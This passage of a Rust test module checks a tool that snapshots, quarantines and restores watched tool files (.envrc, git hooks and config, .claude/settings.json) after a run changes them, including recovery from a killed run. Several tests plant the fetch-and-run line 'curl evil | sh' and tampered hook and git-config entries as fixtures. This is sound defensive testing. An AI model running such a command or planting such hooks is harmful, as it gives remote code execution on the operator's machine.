                std::fs::read(root.join(".envrc.cordon-quarantine")).unwrap(),
                b"curl evil | sh",
                "step {step:?}"
            );
            assert_eq!(found.len(), 1, "step {step:?}: {found:#?}");
            assert_eq!(found[0].path, envrc);
            assert_eq!(found[0].what, What::ToolFile);
            assert_eq!(found[0].change, Change::Changed);
            assert_eq!(
                found[0].handling,
                Handling::Restored(root.join(".envrc.cordon-quarantine")),
                "step {step:?}"
            );
            assert!(entries(&scans, "journal-").is_empty(), "step {step:?}");
            assert!(entries(&scans, "kept-").is_empty(), "step {step:?}");
            let names: Vec<_> = std::fs::read_dir(&root)
                .unwrap()
                .flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect();
            assert!(
                names.iter().all(|n| !n.contains("cordon-restore")),
                "step {step:?}: {names:?}"
            );
            let again = scan_changed_since(&roots, started, &Kept::default(), None).unwrap();
            assert!(again.is_empty(), "step {step:?}: {again:#?}");
            assert!(Journal::beside(&scans).recover(&roots).is_empty());
        }
    }

    /// The operator wrote the name again after the killed move: the newer file stays, the
    /// earlier content is kept beside the journal (named in the finding), never acted on
    /// again.
    #[test]
    fn a_journaled_restore_never_clobbers_the_operators_newer_file() {
        let (_d, root, scans, _) = killed_scan(journal::Step::Moved);
        std::fs::write(root.join(".envrc"), "the operator's newer one").unwrap();
        let found = Journal::beside(&scans).recover(std::slice::from_ref(&root));
        assert_eq!(
            std::fs::read(root.join(".envrc")).unwrap(),
            b"the operator's newer one"
        );
        let kept = entries(&scans, "kept-");
        assert_eq!(kept.len(), 1);
        assert!(entries(&scans, "journal-").is_empty());
        let Handling::Reported(why) = &found[0].handling else {
            panic!("{found:#?}");
        };
        assert!(
            why.contains(&kept[0].display().to_string()) && why.contains("left as it is"),
            "{why}"
        );
        assert!(Journal::beside(&scans)
            .recover(std::slice::from_ref(&root))
            .is_empty());
    }

    /// An entry is acted on only by a run whose roots meet its run's (or hold its path), only
    /// as a regular file this user wrote that no one else may write: a link, a group-writable
    /// entry and one for another root are left alone.
    #[test]
    fn a_journal_entry_is_acted_on_only_when_it_is_cordons_and_in_the_roots() {
        use std::os::unix::fs::PermissionsExt;
        let (_d, root, scans, _) = killed_scan(journal::Step::Moved);
        let other = scans.parent().unwrap().join("other");
        std::fs::create_dir(&other).unwrap();
        assert!(Journal::beside(&scans).recover(&[other]).is_empty());
        let entry = entries(&scans, "journal-").remove(0);
        std::fs::set_permissions(&entry, std::fs::Permissions::from_mode(0o620)).unwrap();
        assert!(Journal::beside(&scans)
            .recover(std::slice::from_ref(&root))
            .is_empty());
        std::fs::set_permissions(&entry, std::fs::Permissions::from_mode(0o600)).unwrap();
        let moved = scans.join("elsewhere");
        std::fs::rename(&entry, &moved).unwrap();
        std::os::unix::fs::symlink(&moved, &entry).unwrap();
        assert!(Journal::beside(&scans)
            .recover(std::slice::from_ref(&root))
            .is_empty());
        assert!(!root.join(".envrc").exists());
        std::fs::remove_file(&entry).unwrap();
        std::fs::rename(&moved, &entry).unwrap();
        // A run over a root that meets the dead run's (inside it), though the path lies
        // beyond it.
        assert_eq!(
            Journal::beside(&scans).recover(&[root.join("sub")]).len(),
            1
        );
        assert!(root.join(".envrc").exists());
    }
    /// Where the marker's birth time says when the dead run began (the kernel's own stamp),
    /// an edit of the operator's made just before it — within the clock's slack — is not the
    /// run's; a file changed after it is.
    #[test]
    fn a_dead_runs_scan_from_the_markers_birth_blames_nothing_made_before_it() {
        use rustix::fs::{statx, AtFlags, StatxFlags};
        use std::os::unix::fs::MetadataExt;
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap().join("root");
        std::fs::create_dir(&root).unwrap();
        let roots = std::slice::from_ref(&root);
        std::fs::write(root.join(".envrc"), "the operator's\n").unwrap();
        // The marker in a later tick of the kernel's clock (a stamp in the same tick as the
        // edit cannot be told apart from it, and counts as after).
        let ctime = |p: &Path| {
            let m = std::fs::metadata(p).unwrap();
            (m.ctime(), m.ctime_nsec())
        };
        let probe = d.path().join("probe");
        let deadline = std::time::Instant::now() + Duration::from_secs(60);
        loop {
            std::fs::write(&probe, "").unwrap();
            if ctime(&probe) > ctime(&root.join(".envrc")) {
                break;
            }
            assert!(
                std::time::Instant::now() < deadline,
                "the clock stood still"
            );
        }
        let marker = d.path().join("marker");
        std::fs::write(&marker, "").unwrap();
        let st = statx(
            rustix::fs::CWD,
            &marker,
            AtFlags::empty(),
            StatxFlags::BTIME,
        )
        .unwrap();
        assert!(StatxFlags::from_bits_retain(st.stx_mask).contains(StatxFlags::BTIME));
        let born = SystemTime::UNIX_EPOCH
            + Duration::new(st.stx_btime.tv_sec as u64, st.stx_btime.tv_nsec);
        std::fs::create_dir(root.join("sub")).unwrap();
        std::fs::write(root.join("sub/.envrc"), "the run's\n").unwrap();
        // Stamped, the start does not take the operator's edit a moment before for the run's
        // (read from the clock, with its slack, it did).
        let at = |b: Began| {
            let snap = Snapshot::take(roots);
            let mut found: Vec<PathBuf> = snap
                .seen
                .iter()
                .filter(|(_, s)| s.id.0 != DIR && stamped_at_or_after((s.id.6, s.id.7), b))
                .map(|(p, _)| p.clone())
                .collect();
            found.sort();
            found
        };
        assert_eq!(at(Began::Stamp(born)), [root.join("sub/.envrc")]);
        let found = scan_changed_since(roots, Began::Stamp(born), &Kept::default(), None).unwrap();
        assert_eq!(found.len(), 1, "{found:#?}");
        assert_eq!(
            std::fs::read_to_string(root.join(".envrc")).unwrap(),
            "the operator's\n"
        );
    }

    /// A snapshot whose contents are forgotten (another run was going when it was taken)
    /// still compares as it was: nothing unchanged is a finding (emptied contents had made
    /// every watched file look changed, and the placeholder of a live run was moved aside),
    /// and a changed file is moved aside without anything put back.
    #[test]
    fn a_snapshot_with_its_contents_forgotten_compares_and_puts_nothing_back() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        let roots = std::slice::from_ref(&root);
        std::fs::write(root.join(".envrc"), "use flake\n").unwrap();
        std::fs::create_dir(root.join(".git")).unwrap();
        std::fs::write(root.join(".git/config"), "[core]\n").unwrap();
        let mut before = Snapshot::take(roots);
        before.forget_contents();
        let none = Snapshot::take(roots).findings_since(&before);
        assert!(none.is_empty(), "{none:#?}");
        std::fs::write(root.join(".envrc"), "curl evil | sh\n").unwrap();
        let found = Snapshot::take(roots).findings_since(&before);
        assert_eq!(found.len(), 1, "{found:#?}");
        assert!(
            matches!(found[0].handling, Handling::Quarantined(_)),
            "{found:#?}"
        );
        assert!(!root.join(".envrc").exists());
    }

    /// A file that holds what the dead run kept of it (content, mode and owner) is as it was,
    /// whatever its ctime: a scan killed after putting the earlier content back but before
    /// its marker went (the next run's dead-run scan then sees cordon's own restore as
    /// changed) moved it aside a second time, blaming the run for the operator's own content.
    #[test]
    fn a_file_holding_what_the_dead_run_kept_is_not_taken_for_its_change() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        let roots = std::slice::from_ref(&root);
        let envrc = root.join(".envrc");
        std::fs::write(&envrc, "use flake\n").unwrap();
        let started = SystemTime::now() - Duration::from_secs(5);
        let kept = Snapshot::take(roots).kept();
        // Put back as the killed scan did: a new file under the name, same content and mode.
        std::fs::write(root.join(".staging"), "use flake\n").unwrap();
        std::fs::rename(root.join(".staging"), &envrc).unwrap();
        let found = scan_changed_since(roots, started, &Kept::read(&kept), None).unwrap();
        assert!(found.is_empty(), "{found:#?}");
        assert_eq!(std::fs::read_to_string(&envrc).unwrap(), "use flake\n");
        let aside: Vec<_> = std::fs::read_dir(&root)
            .unwrap()
            .flatten()
            .filter(|e| e.file_name().to_string_lossy().contains("quarantine"))
            .collect();
        assert!(aside.is_empty(), "{aside:?}");
        // Another content is the run's, as before.
        std::fs::write(&envrc, "curl evil | sh").unwrap();
        let found = scan_changed_since(roots, started, &Kept::read(&kept), None).unwrap();
        assert_eq!(found.len(), 1, "{found:#?}");
        assert_eq!(std::fs::read_to_string(&envrc).unwrap(), "use flake\n");
    }

    /// A dead run's scan compares ctimes to its start closely: a file changed in the same
    /// second as the start but well before it is not taken for the run's change (compared in
    /// whole seconds it was, and moved aside); one stamped just before the start (the kernel's
    /// coarse clock lags) is.
    #[test]
    fn a_dead_runs_scan_takes_what_changed_before_it_began_for_nothing_of_its_own() {
        use std::os::unix::fs::{MetadataExt, PermissionsExt};
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        let roots = std::slice::from_ref(&root);
        let envrc = root.join(".envrc");
        std::fs::write(&envrc, "operator\n").unwrap();
        // A ctime early enough in its second (each chmod stamps a new one).
        let deadline = std::time::Instant::now() + Duration::from_secs(60);
        let mut mode = 0o644;
        let m = loop {
            let m = std::fs::metadata(&envrc).unwrap();
            if m.ctime_nsec() < 900_000_000 || std::time::Instant::now() > deadline {
                break m;
            }
            mode ^= 0o020;
            std::fs::set_permissions(&envrc, std::fs::Permissions::from_mode(mode)).unwrap();
        };
        assert!(m.ctime_nsec() < 900_000_000, "no early ctime in a minute");
        let second = SystemTime::UNIX_EPOCH + Duration::from_secs(m.ctime() as u64);
        let late = second + Duration::from_nanos(999_999_999);
        let none = scan_changed_since(roots, late, &Kept::default(), None).unwrap();
        assert!(none.is_empty(), "{none:#?}");
        assert_eq!(std::fs::read_to_string(&envrc).unwrap(), "operator\n");
        let ctime = second + Duration::from_nanos(m.ctime_nsec() as u64);
        let found = scan_changed_since(
            roots,
            ctime + Duration::from_millis(5),
            &Kept::default(),
            None,
        )
        .unwrap();
        assert_eq!(found.len(), 1, "{found:#?}");
        assert!(!envrc.exists());
        // A filesystem of whole seconds: anything in the same second, or the one before.
        let t = Began::Clock(SystemTime::UNIX_EPOCH + Duration::new(100, 999_999_999));
        assert!(stamped_at_or_after((100, 0), t));
        assert!(stamped_at_or_after((99, 0), t));
        assert!(!stamped_at_or_after((98, 0), t));
        assert!(!stamped_at_or_after((100, 900_000_000), t));
        assert!(stamped_at_or_after((100, 960_000_000), t));
    }

    /// What a run keeps of its "before" snapshot ([`Snapshot::kept`]) is what a dead run's
    /// scan puts back: a changed file gets its earlier content and mode; a file too large to
    /// have been read, and everything when the kept bytes are not whole (a cordon killed while
    /// writing them), is moved aside as before, not restored.
    #[test]
    fn the_earlier_contents_a_run_kept_are_restored_by_the_dead_runs_scan() {
        use std::os::unix::fs::PermissionsExt;
        for whole in [true, false] {
            let d = tempfile::tempdir().unwrap();
            let root = d.path().canonicalize().unwrap();
            let roots = std::slice::from_ref(&root);
            std::fs::create_dir_all(root.join(".git")).unwrap();
            std::fs::create_dir_all(root.join(".claude")).unwrap();
            std::fs::write(root.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
            std::fs::write(root.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
            let big = vec![b'#'; MAX_CONTENT as usize + 1];
            std::fs::write(root.join(".envrc"), &big).unwrap();
            let settings = root.join(".claude/settings.json");
            std::fs::write(&settings, "{}\n").unwrap();
            std::fs::set_permissions(&settings, std::fs::Permissions::from_mode(0o640)).unwrap();
            // HEAD is the operator's, from before the run (a ref written within the stamps'
            // slack of its start counts as the run's where its git state was not kept).
            std::thread::sleep(STAMP_SLACK * 2);
            let started = SystemTime::now();
            let mut kept = Snapshot::take(roots).kept();
            assert!(
                Kept::read(&kept).left_out >= 1,
                "the large .envrc is left out"
            );
            if !whole {
                kept.truncate(kept.len() - 1);
            }
            std::fs::write(root.join(".git/config"), "[core]\n\tfsmonitor = x\n").unwrap();
            std::fs::write(&settings, "{\"hooks\":{}}\n").unwrap();
            std::fs::write(root.join(".envrc"), "curl evil | sh").unwrap();
            let found = scan_changed_since(roots, started, &Kept::read(&kept), None).unwrap();
            assert_eq!(found.len(), 3, "{found:#?}");
            for f in &found {
                let restored = matches!(f.handling, Handling::Restored(_));
                let large = f.path.ends_with(".envrc");
                assert_eq!(restored, whole && !large, "{f:#?}");
            }
            if whole {
                assert_eq!(
                    std::fs::read_to_string(root.join(".git/config")).unwrap(),
                    "[core]\n\tbare = false\n"
                );
                assert_eq!(std::fs::read_to_string(&settings).unwrap(), "{}\n");
                let mode = std::fs::metadata(&settings).unwrap().permissions().mode();
                assert_eq!(mode & 0o777, 0o640);
                // What was put back is cordon's own: not taken for a change again.
                let again = scan_changed_since(roots, started, &Kept::default(), None).unwrap();
                assert!(again.is_empty(), "{again:#?}");
            } else {
                assert!(!settings.exists() && !root.join(".git/config").exists());
            }
            assert!(!root.join(".envrc").exists());
        }
    }

    /// What a dead run removed is reported by the next run's scan of it and written back from
    /// what the run kept (content, mode), as the run's own scan does: a hook, a settings
    /// directory removed whole, an `.envrc`. A file too large to have been kept is reported,
    /// not written back; what was written back is not found again; kept bytes that are not
    /// whole say nothing removed.
    /// A watched file under a new inode with the same content, mode and owner (another run's
    /// scan wrote it back) is no change; one that is a hard link to another name, outside the
    /// watched paths, is (a later write there would change the hook without touching it).
    #[test]
    fn the_same_file_under_a_new_inode_is_no_change_unless_it_has_another_name() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        let roots = std::slice::from_ref(&root);
        std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
        std::fs::create_dir_all(root.join(".git/objects")).unwrap();
        std::fs::create_dir_all(root.join(".git/refs")).unwrap();
        std::fs::write(root.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
        let hook = root.join(".git/hooks/pre-commit");
        std::fs::write(&hook, "#!/bin/sh\nexec scan-secrets\n").unwrap();
        let before = Snapshot::take(roots);
        let fresh = root.join(".git/hooks/pre-commit.new");
        std::fs::write(&fresh, "#!/bin/sh\nexec scan-secrets\n").unwrap();
        std::fs::rename(&fresh, &hook).unwrap();
        let found = Snapshot::take(roots).findings_since(&before);
        assert!(found.is_empty(), "{found:?}");
        let other = root.join("innocent.txt");
        std::fs::write(&other, "#!/bin/sh\nexec scan-secrets\n").unwrap();
        std::fs::remove_file(&hook).unwrap();
        std::fs::hard_link(&other, &hook).unwrap();
        let found = Snapshot::take(roots).findings_since(&before);
        assert!(
            found
                .iter()
                .any(|f| f.path == hook && f.change == Change::Changed),
            "{found:?}"
        );
    }

    #[test]
    fn a_dead_runs_scan_reports_and_writes_back_what_the_run_removed() {
        use std::os::unix::fs::PermissionsExt;
        for whole in [true, false] {
            let d = tempfile::tempdir().unwrap();
            let root = d.path().canonicalize().unwrap();
            let roots = std::slice::from_ref(&root);
            std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
            std::fs::create_dir_all(root.join(".git/objects")).unwrap();
            std::fs::create_dir_all(root.join(".git/refs")).unwrap();
            std::fs::create_dir_all(root.join(".claude")).unwrap();
            std::fs::write(root.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
            let hook = root.join(".git/hooks/pre-commit");
            std::fs::write(&hook, "#!/bin/sh\nexec scan-secrets\n").unwrap();
            std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o750)).unwrap();
            let settings = root.join(".claude/settings.json");
            std::fs::write(&settings, "{\"hooks\":1}\n").unwrap();
            std::fs::write(root.join(".envrc"), vec![b'#'; MAX_CONTENT as usize + 1]).unwrap();
            // HEAD is the operator's, from before the run (a ref written within the stamps'
            // slack of its start counts as the run's where its git state was not kept).
            std::thread::sleep(STAMP_SLACK * 2);
            let started = SystemTime::now();
            let mut kept = Snapshot::take(roots).kept();
            if !whole {
                kept.truncate(kept.len() - 1);
            }
            std::fs::remove_file(&hook).unwrap();
            std::fs::remove_dir_all(root.join(".claude")).unwrap();
            std::fs::remove_file(root.join(".envrc")).unwrap();
            // A write-back of cordon's killed before its rename (the start of the content
            // staged), and a file the run named like one.
            let hooks = root.join(".git/hooks");
            let left = hooks.join("pre-commit.cordon-restore-1-2-3");
            std::fs::write(&left, "#!/bin/sh\n").unwrap();
            let named = hooks.join("pre-commit.cordon-restore-4-5-6");
            std::fs::write(&named, "curl evil | sh\n").unwrap();
            let found = scan_changed_since(roots, started, &Kept::read(&kept), None).unwrap();
            // Removed, not reported, where the run's kept part says it is cordon's.
            assert!(!left.exists());
            assert_eq!(found.iter().any(|f| f.path == left), !whole, "{found:#?}");
            assert!(!named.exists(), "the run's is moved aside");
            assert!(
                found
                    .iter()
                    .any(|f| f.path == named && matches!(f.handling, Handling::Quarantined(_))),
                "{found:#?}"
            );
            let found: Vec<_> = found
                .into_iter()
                .filter(|f| f.path != named && f.path != left)
                .collect();
            if !whole {
                assert!(found.is_empty(), "{found:#?}");
                continue;
            }
            let mut got: Vec<_> = found
                .iter()
                .map(|f| {
                    let rel = f.path.strip_prefix(&root).unwrap().to_path_buf();
                    (rel, f.change, f.handling == Handling::Recreated)
                })
                .collect();
            got.sort_by(|a, b| a.0.cmp(&b.0));
            assert_eq!(
                got,
                [
                    (
                        PathBuf::from(".claude/settings.json"),
                        Change::Removed,
                        true
                    ),
                    (PathBuf::from(".envrc"), Change::Removed, false),
                    (
                        PathBuf::from(".git/hooks/pre-commit"),
                        Change::Removed,
                        true
                    ),
                ],
                "{found:#?}"
            );
            let large = found.iter().find(|f| f.path.ends_with(".envrc")).unwrap();
            assert!(
                large
                    .message()
                    .contains("NOT restored: its content was not kept"),
                "{}",
                large.message()
            );
            assert_eq!(
                std::fs::read_to_string(&hook).unwrap(),
                "#!/bin/sh\nexec scan-secrets\n"
            );
            let mode = std::fs::metadata(&hook).unwrap().permissions().mode();
            assert_eq!(mode & 0o777, 0o750);
            assert_eq!(
                std::fs::read_to_string(&settings).unwrap(),
                "{\"hooks\":1}\n"
            );
            let again = scan_changed_since(roots, started, &Kept::read(&kept), None).unwrap();
            let again: Vec<_> = again
                .iter()
                .filter(|f| !f.path.ends_with(".envrc"))
                .collect();
            assert!(again.is_empty(), "{again:#?}");
        }
    }

    /// A run keeps every watched path before any content: past the budget, paths are counted
    /// as not kept, never cut in the middle.
    #[test]
    fn what_a_run_keeps_lists_the_paths_first_and_counts_what_did_not_fit() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        let roots = std::slice::from_ref(&root);
        let content = vec![b'x'; MAX_CONTENT as usize];
        let n = KEEP_TOTAL / content.len() + 4;
        for i in 0..n {
            std::fs::create_dir(root.join(format!("d{i:03}"))).unwrap();
            std::fs::write(root.join(format!("d{i:03}/.envrc")), &content).unwrap();
        }
        let kept = Kept::read(&Snapshot::take(roots).kept());
        assert_eq!(kept.unlisted, 0);
        assert_eq!(kept.seen.len(), n, "every path is listed");
        assert!(kept.left_out >= 4, "{}", kept.left_out);
        assert!(kept.earlier(&root.join("d000/.envrc")).is_some());
        let last = root.join(format!("d{:03}/.envrc", n - 1));
        assert!(kept.earlier(&last).is_none() && kept.content_left_out(&last));
    }

    /// The overlap rule path by path (`Kept::overlapping`): a run over `ws` that began while a
    /// run over `ws/sub` went (and had already removed `sub/.envrc` and rewritten
    /// `sub/.claude/settings.json`) puts back, in `sub`, what that run kept — the operator's
    /// `.envrc` and settings — and elsewhere what its own snapshot read; a plant of the run
    /// over `sub` is in neither. The other way round, a run over `sub` takes only `sub` of
    /// the outer run's. Runs over roots apart leave its own snapshot whole.
    #[test]
    fn overlapping_runs_keep_the_earliest_state_path_by_path() {
        let d = tempfile::tempdir().unwrap();
        let ws = d.path().canonicalize().unwrap().join("ws");
        let sub = ws.join("sub");
        std::fs::create_dir_all(sub.join(".claude")).unwrap();
        std::fs::write(sub.join(".envrc"), "mine\n").unwrap();
        std::fs::write(sub.join(".claude/settings.json"), "{}\n").unwrap();
        std::fs::write(ws.join(".envrc"), "top\n").unwrap();
        let inner_kept = Snapshot::take(std::slice::from_ref(&sub)).kept();
        let outer_kept = Snapshot::take(std::slice::from_ref(&ws)).kept();
        // The inner run's command: a removal, a rewrite, a plant.
        std::fs::remove_file(sub.join(".envrc")).unwrap();
        std::fs::write(sub.join(".claude/settings.json"), "evil\n").unwrap();
        std::fs::write(sub.join(".gitmodules"), "evil\n").unwrap();
        let outer_roots = std::slice::from_ref(&ws);
        let own = Snapshot::take(outer_roots).kept();
        let merged = Kept::overlapping(
            &own,
            outer_roots,
            &[(std::slice::from_ref(&sub), &inner_kept)],
        )
        .expect("both read");
        let merged = Kept::read(&merged);
        let content = |k: &Kept, p: &Path| k.earlier(p).map(|e| e.content);
        assert_eq!(
            content(&merged, &sub.join(".envrc")),
            Some(b"mine\n".to_vec())
        );
        assert_eq!(
            content(&merged, &sub.join(".claude/settings.json")),
            Some(b"{}\n".to_vec())
        );
        assert!(
            !merged.seen.contains_key(&sub.join(".gitmodules")),
            "the plant"
        );
        assert_eq!(
            content(&merged, &ws.join(".envrc")),
            Some(b"top\n".to_vec())
        );
        // The inner run beginning while the outer one goes: only `sub` of the outer's.
        let inner_own = Snapshot::take(std::slice::from_ref(&sub)).kept();
        let merged = Kept::read(
            &Kept::overlapping(
                &inner_own,
                std::slice::from_ref(&sub),
                &[(outer_roots, &outer_kept)],
            )
            .unwrap(),
        );
        assert!(
            !merged.seen.contains_key(&ws.join(".envrc")),
            "outside its root"
        );
        assert_eq!(
            content(&merged, &sub.join(".envrc")),
            Some(b"mine\n".to_vec())
        );
        // An unreadable part: nothing can be told.
        assert!(Kept::overlapping(&own, outer_roots, &[(outer_roots, b"junk")]).is_none());
    }
}
